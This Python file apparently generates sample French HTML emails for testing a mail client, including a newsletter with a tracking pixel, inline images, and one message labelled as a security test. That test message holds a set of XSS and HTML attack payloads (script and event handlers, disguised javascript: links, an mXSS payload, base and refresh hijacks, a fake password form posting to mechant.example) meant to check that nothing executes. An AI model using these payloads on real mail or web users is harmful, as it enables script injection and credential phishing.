"""Letters in HTML: newsletters, pictures inside the text, and one that tries every attack."""
import letter
from letter import attach, finish, new, png

NEWSLETTER = """\
<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>La lettre de la recherche</title>
<style>.bouton { background: #1f5c57; color: #fff } @media (max-width: 600px) { .colonne { display: block } }</style>
</head>
<body style="margin:0;background:#eef1ef;font-family:Georgia,serif">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#eef1ef"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #d9dedb">
<tr><td style="padding:24px;background:#1f5c57;color:#ffffff"><img src="https://lettre.recherche.example/logo.png" width="120" height="40" alt="Recherche EILA">
<h1 style="margin:12px 0 0;font-size:26px">La lettre de la recherche, n° {number}</h1></td></tr>
<tr><td style="padding:24px"><table role="presentation" width="100%"><tr>
<td class="colonne" width="50%" valign="top" style="padding-right:12px"><h2 style="font-size:18px;color:#1f5c57">Appels à projets</h2>
<p style="line-height:1.5">Trois appels sont ouverts, dont un pour les jeunes équipes. <a href="https://lettre.recherche.example/appels?u=8812">Tous les appels</a></p></td>
<td class="colonne" width="50%" valign="top" style="padding-left:12px"><h2 style="font-size:18px;color:#1f5c57">Agenda</h2>
<ul><li>Séminaire de phonétique, jeudi</li><li>Journée des doctorants</li><li>Assemblée générale</li></ul></td></tr></table>
<p style="text-align:center"><a class="bouton" href="https://lettre.recherche.example/lire?n={number}" style="display:inline-block;padding:12px 24px;background:#1f5c57;color:#ffffff;text-decoration:none;border-radius:4px">Lire en ligne</a></p>
<img src="https://lettre.recherche.example/photo-{number}.jpg" width="552" alt="Le laboratoire"></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#667">Vous recevez cette lettre parce que vous êtes membre de l’UFR.
<a href="https://lettre.recherche.example/desabonnement?u=8812">Se désabonner</a></td></tr>
</table></td></tr></table>
<img src="https://suivi.recherche.example/ouvert.gif?u=8812&amp;n={number}" width="1" height="1" alt="">
</body></html>
"""

HOSTILE = """\
<html><head><meta http-equiv="refresh" content="0;url=https://mechant.example/refresh">
<base href="https://mechant.example/"><link rel="preconnect" href="https://mechant.example">
<link rel="stylesheet" href="https://mechant.example/style.css">
<style>@import url(https://mechant.example/import.css); body { background: url(https://mechant.example/fond.png) }</style>
</head><body onload="alert('onload')">
<h1>Ceci est un essai d’attaque</h1>
<p>Rien de ce qui suit ne doit agir. Seul ce texte doit se lire.</p>
<script>alert('script')</script><img src=x onerror="alert('onerror')"><svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<a href="javascript:alert('lien')">lien javascript</a> <a href="JaVa&#9;ScRiPt:alert(1)">lien déguisé</a>
<a href="data:text/html,<script>alert('data')</script>">lien data</a>
<iframe src="https://mechant.example/cadre"></iframe><object data="https://mechant.example/objet"></object>
<form action="https://mechant.example/mot-de-passe" method="post"><label>Votre session a expiré. Mot de passe :
<input type="password" name="p"></label><button>Se connecter</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9999">Recouvre la page</div>
<p style="background-image:url('https://mechant.example/pixel.gif')">Image de fond</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;"></table></mtext></math>
<p>Fin de l’essai.</p></body></html>
"""


def newsletters(count):
    for number in range(count):
        when = letter.days_ago(3 + 21 * number, 7, 5)
        text = "La lettre de la recherche\n\nAppels à projets, agenda : https://lettre.recherche.example/\n"
        yield finish(new("Lettre de la recherche <lettre@recherche.example>", "claire.morel@demo.example",
                         f"La lettre de la recherche n° {48 - number}", when, text,
                         html=NEWSLETTER.replace("{number}", str(48 - number)),
                         headers=[("List-Unsubscribe", "<https://lettre.recherche.example/desabonnement?u=8812>"),
                                  ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk")]),
                     when, *(["seen"] if number else []))


def photographs(when, *flags):
    """Two pictures inside the text (cid:) and the same as files."""
    sunset = png(320, 180, lambda x, y: (250 - y // 2, 140 + x // 8, 60 + y))
    hills = png(320, 180, lambda x, y: (40, 120 + (x * y) % 60, 90) if y > 90 + (x % 80 - 40) ** 2 // 40 else (190, 215, 240))
    message = new("Karim Benali <karim.benali@demo.example>", "Claire Morel <claire.morel@demo.example>",
                  "Photos du colloque", when, "Elles sont enfin triées ! Dites-moi lesquelles garder.\n\nKarim\n")
    message.add_alternative("<p>Elles sont enfin triées&nbsp;!</p><p><img src='cid:coucher@demo.example' alt='Coucher de soleil'>"
                            "</p><p>Et les collines, le dernier jour&nbsp;:</p><p><img src='cid:collines@demo.example' alt='Collines'></p>"
                            "<p>Dites-moi lesquelles garder.<br>Karim</p>", subtype="html")
    html = message.get_payload()[1]
    html.add_related(sunset, "image", "png", cid="<coucher@demo.example>", filename="coucher.png")
    html.add_related(hills, "image", "png", cid="<collines@demo.example>", filename="collines.png")
    attach(message, "coucher de soleil.png", sunset, "image/png")
    return finish(message, when, *flags)


def hostile(when, *flags):
    message = new("Essai de sécurité <essai@demo.example>", "claire.morel@demo.example",
                  "[ESSAI] HTML hostile : rien ne doit s’exécuter", when, "Version texte de l’essai.\n", html=HOSTILE)
    return finish(message, when, *flags)


def html_only(when, *flags):
    message = new("Relations internationales <international@demo.example>", "claire.morel@demo.example",
                  "Mobilité : calendrier", when, "-")
    message.set_content("<h2>Calendrier</h2><table border=1><tr><th>Étape<th>Date<tr><td>Dossiers<td>15 janvier"
                        "<tr><td>Commission<td>2 février</table><p>Bien à vous,<br><b>Le service</b></p>", subtype="html")
    return finish(message, when, *flags)
